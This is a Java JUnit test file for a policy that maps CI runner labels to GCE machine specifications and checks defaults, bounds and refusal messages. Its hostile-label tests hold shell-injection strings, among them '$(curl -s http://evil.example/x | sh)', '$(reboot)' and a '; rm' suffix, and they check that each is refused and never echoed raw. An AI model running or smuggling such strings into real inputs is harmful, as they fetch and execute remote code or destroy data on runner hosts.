package io.autorunner.common.policy;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The label language of the design's table, its operator bounds, and its hostile inputs. */
class LabelPolicyTest {

  private static final Accelerator ONE_T4 = new Accelerator("nvidia-tesla-t4", 1);
  private static final Accelerator TWO_T4 = new Accelerator("nvidia-tesla-t4", 2);
  private static final Accelerator ONE_L4 = new Accelerator("nvidia-l4", 1);

  private final LabelPolicy policy = new LabelPolicy(PolicyProperties.defaults());

  @Nested
  class Defaults {

    @Test
    void cpuJobGetsTheDefaultMachineOnSpotWithTheDefaultDisk() {
      RunnerSpec spec = accept(policy, job());

      assertThat(spec)
          .isEqualTo(
              new RunnerSpec(
                  "e2-standard-4", null, 100, null, null, true, OperatingSystem.LINUX, job()));
      assertThat(spec.hasGpu()).isFalse();
      assertThat(spec.machineFamily()).isEqualTo("e2");
    }

    @Test
    void bareGpuGetsOneT4OnAnN1Machine() {
      RunnerSpec spec = accept(policy, job("gpu"));

      assertThat(spec.machineType()).isEqualTo("n1-standard-4");
      assertThat(spec.accelerator()).isEqualTo(ONE_T4);
      assertThat(spec.hasGpu()).isTrue();
    }

    @Test
    void l4GetsTheSmallestG2Machine() {
      RunnerSpec spec = accept(policy, job("gpu=nvidia-l4"));

      assertThat(spec.machineType()).isEqualTo("g2-standard-4");
      assertThat(spec.accelerator()).isEqualTo(ONE_L4);
    }

    @Test
    void operatorDefaultsAreWhatABareJobGets() {
      PolicyProperties bounds =
          bounds()
              .defaultMachineType("n2-standard-2")
              .defaultGpuMachineType("n1-highmem-8")
              .defaultDiskGb(60)
              .spot(false)
              .build();

      RunnerSpec cpu = accept(new LabelPolicy(bounds), job());
      RunnerSpec gpu = accept(new LabelPolicy(bounds), job("gpu"));

      assertThat(cpu.machineType()).isEqualTo("n2-standard-2");
      assertThat(cpu.diskGb()).isEqualTo(60);
      assertThat(cpu.spot()).isFalse();
      assertThat(gpu.machineType()).isEqualTo("n1-highmem-8");
    }
  }

  @Nested
  class TheDesignsLabelTable {

    static Stream<Arguments> labels() {
      return Stream.of(
          Arguments.of("gpu", "n1-standard-4", ONE_T4),
          Arguments.of("gpu=nvidia-l4", "g2-standard-4", ONE_L4),
          Arguments.of("gpu=2", "n1-standard-4", TWO_T4),
          Arguments.of("gpu=2xnvidia-tesla-t4", "n1-standard-4", TWO_T4),
          Arguments.of("gpu=nvidia-tesla-t4", "n1-standard-4", ONE_T4),
          Arguments.of("gpu=4", "n1-standard-4", new Accelerator("nvidia-tesla-t4", 4)),
          Arguments.of("gpu=2xnvidia-l4", "g2-standard-24", new Accelerator("nvidia-l4", 2)),
          Arguments.of("gpu=4xnvidia-l4", "g2-standard-48", new Accelerator("nvidia-l4", 4)),
          Arguments.of("n1-standard-8", "n1-standard-8", null),
          Arguments.of("machine=n1-standard-8", "n1-standard-8", null),
          Arguments.of("c3-highcpu-22", "c3-highcpu-22", null),
          Arguments.of("g2-standard-8", "g2-standard-8", ONE_L4),
          Arguments.of("e2-medium", "e2-medium", null),
          Arguments.of("n2-custom-8-32768", "n2-custom-8-32768", null),
          Arguments.of("c3-standard-4-lssd", "c3-standard-4-lssd", null));
    }

    @ParameterizedTest(name = "{0} -> {1} with {2}")
    @MethodSource("labels")
    void machineAndGpuLabelsChooseTheMachine(
        String label, String machineType, Accelerator accelerator) {
      RunnerSpec spec = accept(policy, job(label));

      assertThat(spec.machineType()).isEqualTo(machineType);
      assertThat(spec.accelerator()).isEqualTo(accelerator);
      assertThat(spec.os()).isEqualTo(OperatingSystem.LINUX);
    }

    @Test
    void bareMachineTypeAndGpuTogetherPutTheGpuOnThatMachine() {
      RunnerSpec spec = accept(policy, job("n1-standard-8", "gpu"));

      assertThat(spec.machineType()).isEqualTo("n1-standard-8");
      assertThat(spec.accelerator()).isEqualTo(ONE_T4);
    }

    @Test
    void machineKeyAndGpuCountTogether() {
      RunnerSpec spec = accept(policy, job("machine=n1-highmem-16", "gpu=4"));

      assertThat(spec.machineType()).isEqualTo("n1-highmem-16");
      assertThat(spec.accelerator()).isEqualTo(new Accelerator("nvidia-tesla-t4", 4));
    }

    @Test
    void bareGpuOnAG2MachineTakesTheGpusItComesWith() {
      RunnerSpec spec = accept(policy, job("g2-standard-24", "gpu"));

      assertThat(spec.accelerator()).isEqualTo(new Accelerator("nvidia-l4", 2));
    }

    @Test
    void diskSetsTheBootDisk() {
      assertThat(accept(policy, job("disk=200")).diskGb()).isEqualTo(200);
      assertThat(accept(policy, job("disk=10")).diskGb()).isEqualTo(10);
      assertThat(accept(policy, job("disk=500")).diskGb()).isEqualTo(500);
    }

    @Test
    void imageNamesAConfiguredAlias() {
      LabelPolicy withAliases =
          new LabelPolicy(
              bounds()
                  .imageAliases(
                      Map.of(
                          "cuda-12", "projects/acme-ml/global/images/family/runner-cuda-12",
                          "plain", "projects/ubuntu-os-cloud/global/images/family/ubuntu-2404-lts"))
                  .build());

      RunnerSpec spec = accept(withAliases, job("gpu", "image=cuda-12"));

      assertThat(spec.imageAlias()).isEqualTo("cuda-12");
      assertThat(accept(withAliases, job()).imageAlias()).isNull();
    }

    @Test
    void zonePinsTheZone() {
      assertThat(accept(policy, job("zone=us-central1-a")).zone()).isEqualTo("us-central1-a");
      assertThat(accept(policy, job()).zone()).isNull();
    }

    @Test
    void zoneWithinTheAllowedListIsAccepted() {
      LabelPolicy pinned =
          new LabelPolicy(bounds().allowedZones(List.of("us-central1-a", "us-central1-b")).build());

      assertThat(accept(pinned, job("zone=us-central1-b")).zone()).isEqualTo("us-central1-b");
    }

    @Test
    void spotFalseAsksForStandardProvisioning() {
      assertThat(accept(policy, job("spot=false")).spot()).isFalse();
      assertThat(accept(policy, job("spot=true")).spot()).isTrue();
      assertThat(accept(new LabelPolicy(bounds().spot(false).build()), job("spot=true")).spot())
          .isTrue();
    }

    @Test
    void windowsAsksForAWindowsRunner() {
      RunnerSpec spec = accept(policy, job("windows"));

      assertThat(spec.os()).isEqualTo(OperatingSystem.WINDOWS);
      assertThat(spec.machineType()).isEqualTo("e2-standard-4");
      assertThat(accept(policy, job("windows", "gpu")).accelerator()).isEqualTo(ONE_T4);
    }

    @Test
    void labelsAreReadWithoutRegardToCase() {
      RunnerSpec spec = accept(policy, job("GPU=NVIDIA-L4", "Disk=50", "Windows", "SPOT=False"));

      assertThat(spec.accelerator()).isEqualTo(ONE_L4);
      assertThat(spec.diskGb()).isEqualTo(50);
      assertThat(spec.os()).isEqualTo(OperatingSystem.WINDOWS);
      assertThat(spec.spot()).isFalse();
    }

    @Test
    void everyLabelTogether() {
      LabelPolicy withAlias =
          new LabelPolicy(bounds().imageAliases(Map.of("cuda", "family/cuda")).build());
      List<String> labels =
          job(
              "gpu=2xnvidia-tesla-t4",
              "machine=n1-standard-16",
              "disk=250",
              "image=cuda",
              "zone=us-east4-c",
              "spot=false");

      assertThat(accept(withAlias, labels))
          .isEqualTo(
              new RunnerSpec(
                  "n1-standard-16",
                  TWO_T4,
                  250,
                  "cuda",
                  "us-east4-c",
                  false,
                  OperatingSystem.LINUX,
                  labels));
    }

    @Test
    void plainExtraLabelsAreKeptInTheirOriginalCase() {
      List<String> labels = job("linux", "x64", "my-team", "Team-Vision", "gpu");

      RunnerSpec spec = accept(policy, labels);

      assertThat(spec.labels())
          .containsExactly("self-hosted", "gce", "linux", "x64", "my-team", "Team-Vision", "gpu");
      assertThat(spec.os()).isEqualTo(OperatingSystem.LINUX);
      assertThat(spec.machineType()).isEqualTo("n1-standard-4");
    }

    @Test
    void theLongestAndTheMostLabelsWithinBoundsAreAccepted() {
      List<String> twenty = new ArrayList<>(job());
      for (int i = twenty.size(); i < 20; i++) {
        twenty.add("team-" + i);
      }
      String longest = "a".repeat(64);

      assertThat(accept(policy, twenty).labels()).hasSize(20);
      assertThat(accept(policy, job(longest)).labels()).contains(longest);
    }
  }

  @Nested
  class Bounds {

    static Stream<Arguments> refusals() {
      return Stream.of(
          Arguments.of(List.of("gpu=8"), "gpu=8", "limit is 4"),
          Arguments.of(List.of("gpu=5xnvidia-l4"), "gpu=5xnvidia-l4", "limit is 4"),
          Arguments.of(List.of("gpu=3"), "gpu=3", "counts of [1, 2, 4]"),
          Arguments.of(List.of("gpu=0"), "gpu=0", "no GPU"),
          Arguments.of(List.of("gpu=nvidia-tesla-v100"), "gpu=nvidia-tesla-v100", "not allowed"),
          Arguments.of(List.of("gpu=nvidia-quantum-9"), "gpu=nvidia-quantum-9", "unknown GPU"),
          Arguments.of(List.of("gpu=lots"), "gpu=lots", "gpu=N"),
          Arguments.of(List.of("gpu", "n2-standard-8"), "n2-standard-8", "n1 family"),
          Arguments.of(List.of("gpu=nvidia-l4", "n1-standard-8"), "gpu=nvidia-l4", "g2"),
          Arguments.of(List.of("gpu", "e2-standard-4"), "e2-standard-4", "n1 family"),
          Arguments.of(List.of("m1-ultramem-40"), "m1-ultramem-40", "not allowed"),
          Arguments.of(List.of("machine=m2-megamem-416"), "machine=m2-megamem-416", "m2"),
          Arguments.of(List.of("machine=a2-highgpu-1g"), "machine=a2-highgpu-1g", "a2"),
          Arguments.of(List.of("machine=banana"), "machine=banana", "not a GCE machine type"),
          // A plain label that starts like a machine family is refused, not read as a machine:
          // "n1-standrd-8" would otherwise run the job on the default machine unnoticed.
          Arguments.of(List.of("e2-tests"), "e2-tests", "not a GCE machine type"),
          Arguments.of(List.of("n1-standrd-8"), "n1-standrd-8", "not a GCE machine type"),
          Arguments.of(List.of("g2-standard-8", "gpu=nvidia-tesla-t4"), "gpu=nvidia-tesla-t4", ""),
          Arguments.of(List.of("g2-standard-8", "gpu=2xnvidia-l4"), "gpu=2xnvidia-l4", "1 GPU"),
          Arguments.of(List.of("disk=501"), "disk=501", "between 10 and 500"),
          Arguments.of(List.of("disk=9"), "disk=9", "between 10 and 500"),
          Arguments.of(List.of("disk=0"), "disk=0", "between 10 and 500"),
          Arguments.of(List.of("disk=999999"), "disk=999999", "between 10 and 500"),
          Arguments.of(List.of("disk=1tb"), "disk=1tb", "whole number"),
          Arguments.of(List.of("image=ubuntu"), "image=ubuntu", "alias"),
          Arguments.of(List.of("zone=mars"), "zone=mars", "not a GCE zone"),
          Arguments.of(List.of("spot=maybe"), "spot=maybe", "spot=true or spot=false"),
          Arguments.of(List.of("foo=bar"), "foo=bar", "unknown key"),
          Arguments.of(List.of("disk="), "disk=", "no value"),
          Arguments.of(List.of("arm64"), "arm64", "Arm"),
          Arguments.of(List.of("aarch64"), "aarch64", "Arm"),
          Arguments.of(List.of("t2a-standard-4"), "t2a-standard-4", "Arm"),
          Arguments.of(List.of("windows", "linux"), "windows", "contradict"),
          Arguments.of(List.of("gpu", "gpu=2"), "gpu=2", "both"),
          Arguments.of(
              List.of("n1-standard-8", "machine=n2-standard-8"), "machine=n2-standard-8", "both"),
          Arguments.of(List.of("n1-standard-8", "n2-standard-8"), "n2-standard-8", "both"),
          Arguments.of(List.of("gpu", "gpu"), "gpu", "twice"),
          Arguments.of(List.of("gpu", "GPU"), "GPU", "twice"),
          Arguments.of(List.of("disk=100", "disk=200"), "disk", "twice"),
          Arguments.of(List.of("Disk=100", "disk=100"), "disk=100", "twice"));
    }

    @ParameterizedTest(name = "{0} refused naming {1}")
    @MethodSource("refusals")
    void outOfBoundsLabelsAreRefusedWithAReasonNamingTheLabel(
        List<String> labels, String named, String rule) {
      String reason = refuse(policy, job(labels.toArray(String[]::new)));

      assertThat(reason).contains(named).contains(rule);
    }

    @Test
    void unknownImageAliasIsRefusedAndTheKnownOnesAreListed() {
      LabelPolicy withAliases =
          new LabelPolicy(bounds().imageAliases(Map.of("cuda-12", "family/cuda-12")).build());

      assertThat(refuse(withAliases, job("image=cuda-11")))
          .contains("image=cuda-11")
          .contains("cuda-12");
    }

    @Test
    void zoneOutsideTheAllowedListIsRefused() {
      LabelPolicy pinned =
          new LabelPolicy(bounds().allowedZones(List.of("us-central1-a", "us-central1-b")).build());

      assertThat(refuse(pinned, job("zone=europe-west4-a")))
          .contains("zone=europe-west4-a")
          .contains("us-central1-a");
    }

    @Test
    void gpuJobIsRefusedWhereGpusAreNotAllowed() {
      LabelPolicy noGpus = new LabelPolicy(bounds().maxGpus(0).build());

      assertThat(refuse(noGpus, job("gpu"))).contains("\"gpu\"").contains("not allowed");
      assertThat(refuse(noGpus, job("g2-standard-4"))).contains("g2-standard-4");
      assertThat(accept(noGpus, job()).hasGpu()).isFalse();
    }

    @Test
    void bareGpuIsRefusedWhenTheDefaultGpuTypeIsNotAllowed() {
      PolicyProperties d = PolicyProperties.defaults();
      LabelPolicy onlyL4 =
          new LabelPolicy(
              new PolicyProperties(
                  d.defaultMachineType(),
                  d.defaultGpuMachineType(),
                  "nvidia-tesla-t4",
                  d.allowedMachineFamilies(),
                  d.allowedMachineTypes(),
                  d.maxVcpus(),
                  d.maxMemoryGb(),
                  List.of("nvidia-l4"),
                  d.maxGpus(),
                  d.defaultDiskGb(),
                  d.maxDiskGb(),
                  d.imageAliases(),
                  d.allowedZones(),
                  d.spot(),
                  d.allowStandard(),
                  d.maxLabels(),
                  d.maxLabelLength()));

      assertThat(refuse(onlyL4, job("gpu"))).contains("\"gpu\"").contains("nvidia-tesla-t4");
      assertThat(accept(onlyL4, job("gpu", "g2-standard-8")).accelerator()).isEqualTo(ONE_L4);
      assertThat(accept(onlyL4, job("gpu=nvidia-l4")).accelerator()).isEqualTo(ONE_L4);
    }

    @Test
    void defaultMachineOfADisallowedFamilyIsRefusedNotSwapped() {
      LabelPolicy noG2 =
          new LabelPolicy(bounds().allowedMachineFamilies(List.of("e2", "n1")).build());

      assertThat(refuse(noG2, job("gpu=nvidia-l4"))).contains("gpu=nvidia-l4").contains("g2");
      assertThat(accept(noG2, job("gpu")).machineType()).isEqualTo("n1-standard-4");
    }

    @Test
    void familyOutsideAStricterAllowListIsRefused() {
      LabelPolicy onlyE2AndN1 =
          new LabelPolicy(bounds().allowedMachineFamilies(List.of("e2", "n1")).build());

      assertThat(refuse(onlyE2AndN1, job("c3-standard-8")))
          .contains("c3-standard-8")
          .contains("[e2, n1]");
    }

    @Test
    void windowsRunnerNeedsARoomyDisk() {
      assertThat(refuse(policy, job("windows", "disk=30"))).contains("Windows").contains("50");
      assertThat(accept(policy, job("windows", "disk=50")).diskGb()).isEqualTo(50);
    }

    @Test
    void tooManyLabelsAreRefused() {
      List<String> labels = new ArrayList<>(job());
      for (int i = labels.size(); i < 21; i++) {
        labels.add("team-" + i);
      }

      assertThat(refuse(policy, labels)).contains("21 labels").contains("20");
    }
  }

  @Nested
  class HostileLabels {

    /** What a refusal may echo of a label: grammar characters and escapes, nothing else. */
    private static final Pattern ECHOED = Pattern.compile("label \"([^\"]*)\"");

    private static final Pattern SAFE_ECHO = Pattern.compile("[A-Za-z0-9._=\\\\-]*…?");

    @ParameterizedTest
    @ValueSource(
        strings = {
          "$(reboot)",
          "a;b",
          "a b",
          "`id`",
          "gpu`id`",
          "it's",
          "say\"hi\"",
          "line\nbreak",
          "cr\rlf",
          "tab\tbed",
          "nul\u0000byte",
          "gpü",
          "ｇｐｕ",
          "gpu\u202e",
          "rocket-🚀",
          "a|b",
          "a&b",
          "a>b",
          "a<b",
          "back\\slash",
          "path/../x",
          "image=$(curl evil.example)",
          "zone=us-central1-a;rm",
          "disk=100 ",
          " gpu",
          "-gpu",
          ".hidden",
          "=gpu",
          "${IFS}",
          "*",
          "~root",
          "a%0Ab",
          ""
        })
    void labelOutsideTheGrammarIsRefusedAndNotEchoedRaw(String hostile) {
      String reason = refuse(policy, job(hostile));

      assertThat(reason).contains("characters outside");
      if (!hostile.matches("[A-Za-z0-9._=-]*")) {
        assertThat(reason).doesNotContain(hostile);
      }
      assertEchoIsSafe(reason);
    }

    @Test
    void overlongLabelIsRefusedAndCutShortInTheReason() {
      String overlong = "gpu-" + "x".repeat(61);

      String reason = refuse(policy, job(overlong));

      assertThat(overlong).hasSize(65);
      assertThat(reason).contains("65 characters").doesNotContain(overlong);
      assertEchoIsSafe(reason);
    }

    @Test
    void overlongHostileLabelIsEscapedToo() {
      String hostile = "$(curl -s http://evil.example/x | sh)" + ";".repeat(40);

      String reason = refuse(policy, job(hostile));

      assertThat(reason).doesNotContain("$(").doesNotContain("|").doesNotContain(";;");
      assertEchoIsSafe(reason);
    }

    @Test
    void hundredsOfLabelsAreRefusedBeforeAnyIsRead() {
      List<String> flood = new ArrayList<>(Collections.nCopies(500, "$(reboot)"));

      String reason = refuse(policy, flood);

      assertThat(reason).contains("500 labels").doesNotContain("$(reboot)");
    }

    @Test
    void acceptedLabelsAreAllWithinTheGrammar() {
      RunnerSpec spec = accept(policy, job("my-team", "Team_2", "v1.2", "gpu"));

      assertThat(spec.labels()).allMatch(l -> l.matches("[A-Za-z0-9][A-Za-z0-9._=-]*"));
    }

    private void assertEchoIsSafe(String reason) {
      Matcher echoed = ECHOED.matcher(reason);
      assertThat(echoed.find()).as("reason %s names the label", reason).isTrue();
      assertThat(echoed.group(1)).matches(SAFE_ECHO);
      assertThat(reason.chars()).allMatch(c -> c >= 0x20 && c != 0x7f);
    }
  }

  @Test
  void resolvingTheSameLabelsTwiceGivesTheSameDecision() {
    List<String> labels = job("gpu=2", "disk=200", "zone=us-central1-a");

    assertThat(policy.resolve(labels)).isEqualTo(policy.resolve(List.copyOf(labels)));
    assertThat(policy.resolve(job("gpu=3"))).isEqualTo(policy.resolve(job("gpu=3")));
  }

  @Test
  void specCanFallBackToStandardProvisioning() {
    RunnerSpec spot = accept(policy, job("gpu", "disk=200"));

    RunnerSpec standard = spot.withStandardProvisioning();

    assertThat(spot.spot()).isTrue();
    assertThat(standard.spot()).isFalse();
    assertThat(standard).usingRecursiveComparison().ignoringFields("spot").isEqualTo(spot);
  }

  // --- factories -------------------------------------------------------------------------------

  /** A job's labels: the default trigger labels, then the given ones. */
  static List<String> job(String... extra) {
    List<String> labels = new ArrayList<>(List.of("self-hosted", "gce"));
    labels.addAll(List.of(extra));
    return labels;
  }

  static RunnerSpec accept(LabelPolicy policy, List<String> labels) {
    LabelDecision decision = policy.resolve(labels);
    assertThat(decision).as("decision for %s", labels).isInstanceOf(LabelDecision.Accepted.class);
    return ((LabelDecision.Accepted) decision).spec();
  }

  static String refuse(LabelPolicy policy, List<String> labels) {
    LabelDecision decision = policy.resolve(labels);
    assertThat(decision).as("decision for %s", labels).isInstanceOf(LabelDecision.Refused.class);
    return ((LabelDecision.Refused) decision).reason();
  }

  static BoundsBuilder bounds() {
    return new BoundsBuilder();
  }

  /** The default bounds with a few changed, so each test says only what it cares about. */
  static final class BoundsBuilder {
    private final PolicyProperties d = PolicyProperties.defaults();
    private String defaultMachineType = d.defaultMachineType();
    private String defaultGpuMachineType = d.defaultGpuMachineType();
    private List<String> allowedMachineFamilies = d.allowedMachineFamilies();
    private List<String> allowedMachineTypes = d.allowedMachineTypes();
    private int maxVcpus = d.maxVcpus();
    private int maxMemoryGb = d.maxMemoryGb();
    private int maxGpus = d.maxGpus();
    private int defaultDiskGb = d.defaultDiskGb();
    private Map<String, String> imageAliases = d.imageAliases();
    private List<String> allowedZones = d.allowedZones();
    private boolean spot = d.spot();
    private boolean allowStandard = d.allowStandard();

    BoundsBuilder defaultMachineType(String value) {
      defaultMachineType = value;
      return this;
    }

    BoundsBuilder defaultGpuMachineType(String value) {
      defaultGpuMachineType = value;
      return this;
    }

    BoundsBuilder allowedMachineFamilies(List<String> value) {
      allowedMachineFamilies = value;
      return this;
    }

    BoundsBuilder allowedMachineTypes(List<String> value) {
      allowedMachineTypes = value;
      return this;
    }

    BoundsBuilder maxVcpus(int value) {
      maxVcpus = value;
      return this;
    }

    BoundsBuilder maxMemoryGb(int value) {
      maxMemoryGb = value;
      return this;
    }

    BoundsBuilder maxGpus(int value) {
      maxGpus = value;
      return this;
    }

    BoundsBuilder defaultDiskGb(int value) {
      defaultDiskGb = value;
      return this;
    }

    BoundsBuilder imageAliases(Map<String, String> value) {
      imageAliases = value;
      return this;
    }

    BoundsBuilder allowedZones(List<String> value) {
      allowedZones = value;
      return this;
    }

    BoundsBuilder spot(boolean value) {
      spot = value;
      return this;
    }

    BoundsBuilder allowStandard(boolean value) {
      allowStandard = value;
      return this;
    }

    PolicyProperties build() {
      return new PolicyProperties(
          defaultMachineType,
          defaultGpuMachineType,
          d.defaultGpuType(),
          allowedMachineFamilies,
          allowedMachineTypes,
          maxVcpus,
          maxMemoryGb,
          d.allowedGpuTypes(),
          maxGpus,
          defaultDiskGb,
          d.maxDiskGb(),
          imageAliases,
          allowedZones,
          spot,
          allowStandard,
          d.maxLabels(),
          d.maxLabelLength());
    }
  }
}
